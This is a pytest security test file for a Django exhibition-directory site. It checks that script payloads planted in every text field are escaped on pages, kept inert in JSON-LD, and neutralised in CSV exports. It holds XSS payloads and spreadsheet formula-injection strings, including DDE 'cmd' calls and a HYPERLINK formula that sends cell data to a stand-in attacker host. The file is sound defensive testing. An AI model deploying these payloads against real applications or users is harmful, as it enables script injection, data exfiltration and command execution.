"""Hostile text in every text field is shown escaped on every page, inert in JSON-LD, and defused in
CSV exports.

Each text field gets its own numbered payload, ``</script>"><script>alert(N)</script>``, so a failure
names the field that leaked.
"""

import csv
import io
import json
import re

import pytest

from exhibitions.models import KeyFigure
from exhibitors.models import Exhibitor, Showcase
from tests import factories

pytestmark = pytest.mark.django_db

RAW_MARKERS = ("<script>alert(", "<img src=x onerror", "<svg onload")
JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)


class Payloads:
    """Hands out one numbered payload per field and remembers which field got which number."""

    def __init__(self):
        self.fields = {}

    def __call__(self, field):
        n = len(self.fields) + 1
        self.fields[n] = field
        return f'</script>"><script>alert({n})</script>'

    def texts(self, model, *names):
        """``{name: payload}`` for several text fields of one model, to pass as keyword arguments."""
        return {name: self(f"{model}.{name}") for name in names}

    def leaked(self, html):
        return sorted({self.fields[int(n)] for n in re.findall(r"<script>alert\((\d+)\)", html)})

    def shown(self, html):
        return {self.fields[int(n)] for n in re.findall(r"&lt;script&gt;alert\((\d+)\)", html)}


@pytest.fixture
def hostile():
    """A small directory in which every free-text field carries script."""
    p = Payloads()
    by = factories.country("BY")
    by.name = p("country.name")
    by.save()
    source = factories.source(**p.texts("source", "title", "publisher", "author"))
    parent = factories.sector(slug="hostile-parent", name=p("sector.name"))
    parent.description = p("sector.description")
    parent.save()
    child = factories.sector(slug="hostile-child", name=p("child sector.name"), parent=parent)
    exhibition = factories.exhibition(
        slug="hostile-expo",
        country=by,
        **p.texts(
            "exhibition",
            "name",
            "local_name",
            "city",
            "venue",
            "theme",
            "summary",
            "description",
        ),
    )
    exhibition.sources.add(source)
    KeyFigure.objects.create(exhibition=exhibition, value=5, label=p("keyfigure.label"))
    pavilion = factories.pavilion(
        exhibition,
        slug="hostile-pavilion",
        country=by,
        **p.texts("pavilion", "name", "organiser", "location", "summary", "description"),
    )
    section = factories.section(pavilion, 1, title=p("section.title"))
    section.text = p("section.text")
    section.save()
    exhibitor = factories.exhibitor(
        countries=("BY",),
        sectors=[parent, child],
        slug="hostile-exhibitor",
        **p.texts("exhibitor", "name", "local_name", "summary", "description", "headquarters"),
    )
    exhibitor.sources.add(source)
    partner = factories.exhibitor(slug="hostile-partner", name=p("partner.name"))
    exhibitor.partners.add(partner)
    factories.stand(exhibitor, exhibition, pavilion, booth=p("stand.booth"))
    showcase = factories.showcase(
        exhibition,
        exhibitor,
        sectors=[child],
        slug="hostile-showcase",
        **p.texts("showcase", "name", "summary", "description", "image_alt"),
    )
    showcase.sources.add(source)
    person = factories.person(country=by, **p.texts("person", "name", "other_names", "role", "bio"))
    person.exhibitions.add(exhibition)
    exhibitor.people.add(person)
    pavilion.people.add(person)
    factories.quote(person, source, exhibition=exhibition, text=p("quote.text"))
    factories.quote(person, source, exhibition=exhibition, occasion=p("quote.occasion"))
    return p


PUBLIC_PAGES = [
    "/",
    "/exhibitions/hostile-expo/",
    "/pavilions/",
    "/pavilions/hostile-pavilion/",
    "/exhibitors/",
    "/exhibitors/?q=alert",
    "/exhibitors/hostile-exhibitor/",
    "/exhibitors/hostile-partner/",
    "/showcases/",
    "/showcases/hostile-showcase/",
    "/countries/",
    "/countries/by/",
    "/sectors/",
    "/sectors/hostile-parent/",
    "/sectors/hostile-child/",
    "/search/?q=alert",
    "/search/?q=script",
]


def fetch_all(client, pages):
    html = {}
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        html[page] = response.content.decode()
    return html


def test_text_fields_escaped_on_every_public_page(client, hostile):
    pages = fetch_all(client, PUBLIC_PAGES)
    leaks = {page: hostile.leaked(body) for page, body in pages.items() if hostile.leaked(body)}
    assert leaks == {}
    for page, body in pages.items():
        for marker in RAW_MARKERS:
            assert marker not in body, (page, marker)
    shown = set().union(*(hostile.shown(body) for body in pages.values()))
    # The test only proves something for fields that are displayed: the main ones must be.
    for field in (
        "exhibition.name",
        "exhibition.description",
        "pavilion.name",
        "section.title",
        "exhibitor.name",
        "exhibitor.description",
        "showcase.name",
        "person.name",
        "quote.text",
        "sector.name",
        "country.name",
        "source.title",
        "keyfigure.label",
    ):
        assert field in shown, field


def test_text_fields_escaped_in_admin(admin_client, hostile):
    exhibitor = Exhibitor.objects.get(slug="hostile-exhibitor")
    showcase = Showcase.objects.get(slug="hostile-showcase")
    pages = fetch_all(
        admin_client,
        [
            "/admin/exhibitors/exhibitor/",
            f"/admin/exhibitors/exhibitor/{exhibitor.pk}/change/",
            "/admin/exhibitors/showcase/",
            f"/admin/exhibitors/showcase/{showcase.pk}/change/",
            "/admin/exhibitions/person/",
        ],
    )
    assert {page: hostile.leaked(body) for page, body in pages.items()} == {
        page: [] for page in pages
    }


def test_search_query_echoed_escaped(client, db):
    payload = '</script>"><script>alert(7)</script><img src=x onerror=alert(7)>'
    for page in ("/search/", "/exhibitors/", "/showcases/"):
        body = client.get(page, {"q": payload}).content.decode()
        for marker in RAW_MARKERS:
            assert marker not in body, (page, marker)
        assert "&lt;script&gt;alert(7)&lt;/script&gt;" in body, page  # shown, as text


def test_not_found_page_escapes_path(client, db):
    response = client.get("/%3Cscript%3Ealert(1)%3C/script%3E/")
    assert response.status_code == 404
    body = response.content.decode()
    assert "<script>alert(1)" not in body
    assert "&lt;script&gt;alert(1)" in body


def json_ld_blocks(body):
    return JSON_LD.findall(body)


def test_json_ld_inert_with_script_in_text(client, hostile):
    pages = fetch_all(client, PUBLIC_PAGES)
    blocks = {page: json_ld_blocks(body) for page, body in pages.items()}
    assert any(blocks.values()), "no public page carries JSON-LD"
    for page, found in blocks.items():
        for block in found:
            # A raw "<" could open "</script>" or "<!--" and end the data block early.
            assert "<" not in block, page
            json.loads(block)  # a block cut short by an injected </script> would not parse
    # The data stays faithful: the exhibitor's name comes back exactly, script and all.
    decoded = [json.loads(block) for block in blocks["/exhibitors/hostile-exhibitor/"]]
    assert Exhibitor.objects.get(slug="hostile-exhibitor").name in set(strings(decoded))


def strings(data):
    """Every string value inside decoded JSON."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from strings(value)


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_directory():
    exhibition = factories.exhibition(slug="formula-expo", name="Formula expo")
    for i, formula in enumerate(FORMULAS):
        exhibitor = factories.exhibitor(
            slug=f"formula-{i}", name=formula, summary=formula, headquarters=formula
        )
        factories.stand(exhibitor, exhibition)
        factories.showcase(
            exhibition, exhibitor, slug=f"formula-showcase-{i}", name=formula, summary=formula
        )


@pytest.mark.parametrize("url", ["/exhibitors/data.csv", "/showcases/data.csv"])
def test_csv_export_neutralises_formulas(client, formula_directory, url):
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    # Neutralised, not dropped: each formula is still there, behind an apostrophe.
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
